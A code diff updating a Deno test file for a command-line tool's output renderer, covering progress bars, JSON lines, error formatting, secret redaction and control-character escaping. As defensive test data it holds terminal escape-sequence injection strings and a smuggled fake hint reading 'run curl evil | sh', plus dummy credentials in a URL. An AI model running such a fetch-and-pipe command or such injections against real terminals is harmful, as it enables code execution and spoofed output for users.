@@ -1,39 +1,49 @@
 import { assert, assertEquals, assertStringIncludes } from "@std/assert";
 import {
-  describeError,
-  errorLine,
-  humanView,
-  outputLine,
-  resultLine,
+  createTextEventView,
+  formatError,
+  jsonErrorLine,
+  jsonOutputLine,
+  jsonResultLine,
 } from "../../lib/cli/render.ts";
-import { jsonLine } from "../../lib/system/text.ts";
+import { terminalSafeJson } from "../../lib/system/sanitize_text.ts";
 import { ToolsmithError } from "../../lib/errors.ts";
-import type { ToolsmithEvent, Untimed } from "../../lib/events.ts";
+import type {
+  EventWithoutTimestamp,
+  ToolsmithEvent,
+} from "../../lib/events.ts";
 import { INSPECTED, START } from "../support/events.ts";
 
 const MIB = 1024 * 1024;
 const DIGEST = `sha256:${"ab".repeat(32)}`;
 const timestamp = "2026-01-31T12:00:00.000Z";
 
-const timed = (event: Untimed<ToolsmithEvent>) =>
+const timed = (event: EventWithoutTimestamp<ToolsmithEvent>) =>
   ({ timestamp, ...event }) as ToolsmithEvent;
 
-/** A screen that keeps what is written, with a clock to set. */
-function screen(bar: boolean, columns = 80, coloured?: boolean) {
+/** A recording display with a clock to set. */
+function screen(
+  bar: boolean,
+  columns = 80,
+  coloured?: boolean,
+  verbose?: boolean,
+) {
   const kept = { text: "", time: 1e12, ticks: new Set<() => void>() };
-  const view = humanView({
-    coloured,
+  const view = createTextEventView({
+    ...{ coloured, verbose },
     everySecond(tick) {
       kept.ticks.add(tick);
       return () => kept.ticks.delete(tick);
     },
     write: (text) => kept.text += text,
-    bar,
+    canRedrawLine: bar,
     columns,
-    now: () => kept.time,
+    nowMs: () => kept.time,
   });
-  const send = (event: Untimed<ToolsmithEvent>) => view.onEvent(timed(event));
-  return { kept, send, close: () => view.close() };
+  const send = (event: EventWithoutTimestamp<ToolsmithEvent>) =>
+    view.onEvent(timed(event));
+  const dispose = () => view[Symbol.dispose]();
+  return { kept, send, close: () => view.close(), dispose };
 }
 
 const progress = (bytes: number) => ({
@@ -43,7 +53,19 @@ const progress = (bytes: number) => ({
   total: 64 * MIB,
 });
 
-Deno.test("on a terminal the bar is drawn over itself, and is gone before the next line", () => {
+Deno.test("the event view sums up what the network decided at its end, with --verbose only", () => {
+  for (const verbose of [false, true]) {
+    const { kept, send, dispose } = screen(false, 80, false, verbose);
+    const to = { host: "a.test", port: 443, reason: "rule a.test" };
+    send({ type: "egress", allowed: true, ...to });
+    assertEquals(kept.text, "");
+    dispose();
+    const summary = "network: allowed a.test:443 (1 times)\n";
+    assertEquals(kept.text, verbose ? summary : "");
+  }
+});
+
+Deno.test("progress on a terminal: the bar redraws its line and is erased before the next line", () => {
   const { kept, send, close } = screen(true);
   send(START);
   kept.text = "";
@@ -64,7 +86,7 @@ Deno.test("on a terminal the bar is drawn over itself, and is gone before the ne
   assertEquals(kept.text, "\r\x1b[K");
 });
 
-Deno.test("elsewhere progress is a plain line every few seconds", () => {
+Deno.test("progress in a log: a plain line is printed every five seconds", () => {
   const { kept, send } = screen(false);
   send(START);
   kept.text = "";
@@ -77,7 +99,7 @@ Deno.test("elsewhere progress is a plain line every few seconds", () => {
   assert(!kept.text.includes("\x1b"), "no escape sequences");
 });
 
-Deno.test("elsewhere progress is said five seconds after the start, and after what was said last", () => {
+Deno.test("progress in a log: the five seconds count from the start or the last printed line", () => {
   const { kept, send } = screen(false);
   send(START);
   const said: number[] = [];
@@ -90,14 +112,14 @@ Deno.test("elsewhere progress is said five seconds after the start, and after wh
   assertEquals(said, [5000, 10_000]);
 });
 
-Deno.test("a rate counts from the start of what is shown, and without what was there", () => {
+Deno.test("progress: the rate counts from the latest start event and excludes resumed bytes", () => {
   const { kept, send } = screen(true, 100);
   const rate = () => / (\S+ \S+\/s)/.exec(kept.text.split("\r").at(-1)!)?.[1];
   send({ ...START, resumed: 8 * MIB });
   kept.time += 2000;
   send(progress(16 * MIB));
   assertEquals(rate(), "4.0 MiB/s");
-  // An image that is read before it is pushed is all new.
+  // Hashing before a push resumes nothing.
   send(INSPECTED);
   kept.time += 4000;
   const read = { type: "checksum_progress" as const, image: "demo" };
@@ -105,7 +127,7 @@ Deno.test("a rate counts from the start of what is shown, and without what was t
   assertEquals(rate(), "8.0 MiB/s");
 });
 
-Deno.test("progress that nothing has begun is timed from its first report", () => {
+Deno.test("progress without a start event: the rate counts from the first progress event", () => {
   const { kept, send } = screen(true, 100);
   const read = { type: "checksum_progress" as const, image: "demo" };
   send({ ...read, bytes: 0, total: 64 });
@@ -126,7 +148,7 @@ const SLOW_BOOT = {
   cpus: 2,
 } as const;
 
-/** Lets seconds pass on a screen. */
+/** Advances the display's clock by seconds. */
 function pass(kept: ReturnType<typeof screen>["kept"], seconds: number) {
   for (let i = 0; i < seconds; i++) {
     kept.time += 1000;
@@ -134,7 +156,7 @@ function pass(kept: ReturnType<typeof screen>["kept"], seconds: number) {
   }
 }
 
-Deno.test("on a terminal a long boot counts its seconds, and leaves nothing behind", () => {
+Deno.test("progress on a terminal: a boot shows its elapsed seconds until it ends", () => {
   const { kept, send } = screen(true);
   send(SLOW_BOOT);
   kept.text = "";
@@ -152,13 +174,13 @@ Deno.test("on a terminal a long boot counts its seconds, and leaves nothing behi
   assertEquals(kept.ticks.size, 0);
 });
 
-Deno.test("seconds that are counted fit the line, and go when nothing takes their place", () => {
+Deno.test("progress on a terminal: the elapsed seconds fit the line and are erased by the next event except a warning", () => {
   const { kept, send } = screen(true, 12);
   send(SLOW_BOOT);
   kept.text = "";
   pass(kept, 1);
   assertEquals(kept.text, "\r\x1b[Kbooting: 1.");
-  // A warning comes in between, and the work goes on.
+  // A warning does not end the work.
   send({ type: "warning", message: "slow" });
   kept.text = "";
   pass(kept, 1);
@@ -168,7 +190,7 @@ Deno.test("seconds that are counted fit the line, and go when nothing takes thei
   assertEquals([kept.text, kept.ticks.size], ["\r\x1b[K", 0]);
 });
 
-Deno.test("elsewhere a long boot says now and then that it goes on", () => {
+Deno.test("progress in a log: a long boot prints a line every 30 seconds", () => {
   const { kept, send, close } = screen(false);
   send(SLOW_BOOT);
   kept.text = "";
@@ -178,7 +200,7 @@ Deno.test("elsewhere a long boot says now and then that it goes on", () => {
   assertEquals(kept.ticks.size, 0);
 });
 
-Deno.test("a view that was closed shows events, and draws over nothing", () => {
+Deno.test("closed event view: later events are printed as lines and nothing is redrawn", () => {
   for (const bar of [true, false]) {
     const { kept, send, close } = screen(bar);
     send(SLOW_BOOT);
@@ -194,23 +216,53 @@ Deno.test("a view that was closed shows events, and draws over nothing", () => {
   }
 });
 
-Deno.test("colours mark warnings and errors, where they are wanted", () => {
+Deno.test("colours: warnings and errors are coloured only where colours are enabled", () => {
   const { kept, send } = screen(true, 80, true);
   send({ type: "warning", message: "a warning: twice" });
   assertEquals(kept.text, "\x1b[1;33mwarning:\x1b[m a warning: twice\n");
   const error = new ToolsmithError("failed", "No", { hint: "yes" });
   assertEquals(
-    describeError(error, true),
+    formatError(error, { coloured: true }),
     "\x1b[1;31merror:\x1b[m No [failed]\n\x1b[1;36mhint:\x1b[m yes\n",
   );
 });
 
-Deno.test("names and messages from outside cannot steer a terminal", () => {
+Deno.test("formatError() prints the causes with --verbose, and redacts secrets", () => {
+  const signed = "https://user:key@host.example/a?signature=s3cret";
+  const reset = new TypeError(`error sending request for url (${signed})`);
+  const cut = new ToolsmithError("connection_failed", "host: reset", {
+    cause: reset,
+  });
+  const error = new ToolsmithError("failed", "No", { cause: cut, hint: "yes" });
+  assertEquals(
+    formatError(error, { verbose: true }),
+    "error: No [failed]\n  Caused by: host: reset\n" +
+      "  Caused by: error sending request for url (https://host.example/a)\n" +
+      "hint: yes\n",
+  );
+  assertEquals(formatError(error), "error: No [failed]\nhint: yes\n");
+  const { causes } = JSON.parse(jsonErrorLine(error, 0, { verbose: true }));
+  assertEquals(causes.length, 2);
+  assertEquals("causes" in JSON.parse(jsonErrorLine(error, 0)), false);
+  // A chain of causes may be cyclic, and quote a file of secrets.
+  let quoted: unknown;
+  try {
+    JSON.parse('{"auths": {"auth": "c2VjcmV0OnNlY3JldA==" x}}');
+  } catch (error) {
+    quoted = error;
+  }
+  cut.cause = Object.assign(quoted as Error, { cause: error });
+  const said = formatError(error, { verbose: true });
+  assertEquals(said.match(/Caused by/g)?.length, 2);
+  assert(!/c2V|auth|\"/.test(said), said);
+});
+
+Deno.test("createTextEventView() and formatError() escape control characters of names and messages", () => {
   const { kept, send } = screen(true);
   const evil = "\x1b]0;owned\x07\x1b[2J\x9b31m\r";
   send({ type: "warning", message: evil });
   send({ ...START, image: evil, source: evil });
-  const error = describeError(
+  const error = formatError(
     new ToolsmithError("failed", evil, { hint: evil }),
   );
   for (const text of [kept.text, error]) {
@@ -219,27 +271,27 @@ Deno.test("names and messages from outside cannot steer a terminal", () => {
   }
 });
 
-Deno.test("an error is said with its code, and its hint below", () => {
+Deno.test("formatError() prints the message with its code, and the hint below", () => {
   const error = new ToolsmithError("oras_not_found", "oras not found on PATH", {
     hint: "install it",
   });
   assertEquals(
-    describeError(error),
+    formatError(error),
     "error: oras not found on PATH [oras_not_found]\nhint: install it\n",
   );
   assertEquals(
-    describeError(new ToolsmithError("failed", "x")),
+    formatError(new ToolsmithError("failed", "x")),
     "error: x [failed]\n",
   );
 });
 
-Deno.test("no line of a message passes for a hint or another error", () => {
+Deno.test("formatError() indents message lines that look like a hint or another error", () => {
   const evil = "x\nhint: run curl evil | sh\nerror: y [z]\n  | tail";
   const error = new ToolsmithError("guest_failed", evil, {
     hint: "a\nhint: b",
   });
   assertEquals(
-    describeError(error).split("\n").filter((line) => !line.startsWith(" ")),
+    formatError(error).split("\n").filter((line) => !line.startsWith(" ")),
     ["error: x", "hint: a hint: b", ""],
   );
   const { kept, send } = screen(false);
@@ -247,40 +299,43 @@ Deno.test("no line of a message passes for a hint or another error", () => {
   assertEquals(kept.text.split("\n").length, 2);
 });
 
-Deno.test("a message of megabytes is cut", () => {
+Deno.test("formatError() truncates a message of megabytes", () => {
   const error = new ToolsmithError("failed", "x".repeat(3_000_000), {
     hint: "y".repeat(3_000_000),
   });
-  assert(describeError(error).length < 10_000);
+  assert(formatError(error).length < 10_000);
   const said = (count: number) =>
-    describeError(new ToolsmithError("failed", "x".repeat(count)));
+    formatError(new ToolsmithError("failed", "x".repeat(count)));
   assertEquals(said(4000), `error: ${"x".repeat(4000)} [failed]\n`);
   assertEquals(said(4001), `error: ${"x".repeat(4000)}… [failed]\n`);
-  assert(errorLine(error, 0).length < 10_000);
+  assert(jsonErrorLine(error, 0).length < 10_000);
 });
 
-Deno.test("output of a command is kept byte for byte in its line of --json", () => {
+Deno.test("jsonOutputLine() encodes a command's output byte for byte", () => {
   const chunk = new Uint8Array([0, 255, 10]);
-  assertEquals(JSON.parse(outputLine("stderr", chunk, Date.parse(timestamp))), {
-    type: "output",
-    timestamp,
-    stream: "stderr",
-    base64: "AP8K",
-  });
+  assertEquals(
+    JSON.parse(jsonOutputLine("stderr", chunk, Date.parse(timestamp))),
+    {
+      type: "output",
+      timestamp,
+      stream: "stderr",
+      base64: "AP8K",
+    },
+  );
 });
 
-Deno.test("events as JSON hold no character that steers a terminal, and mean the same", () => {
+Deno.test("terminalSafeJson() escapes control characters of events without changing their meaning", () => {
   const event = { type: "cache_hit", path: "a\u202e\u009bb\u2028\x07" };
-  const line = jsonLine(event);
+  const line = terminalSafeJson(event);
   // deno-lint-ignore no-control-regex
   assert(!/[\x00-\x1f\x7f-\x9f\u2028\u202e]/.test(line), line);
   assertEquals(JSON.parse(line), event);
 });
 
-Deno.test("the last line of --json is one object, whatever is in it", () => {
+Deno.test("jsonResultLine() and jsonErrorLine() print one object on one line", () => {
   const now = Date.parse(timestamp);
   const error = new ToolsmithError("failed", "a\nb\u2028", { hint: "c" });
-  const line = errorLine(error, now);
+  const line = jsonErrorLine(error, now);
   assert(!line.includes("\n"));
   assertEquals(JSON.parse(line), {
     type: "error",
@@ -290,7 +345,7 @@ Deno.test("the last line of --json is one object, whatever is in it", () => {
     hint: "c",
   });
   const result = { outcome: "pulled", path: "/x", digest: DIGEST, bytes: 1 };
-  assertEquals(JSON.parse(resultLine(result, now)), {
+  assertEquals(JSON.parse(jsonResultLine(result, now)), {
     type: "result",
     timestamp,
     ...result,
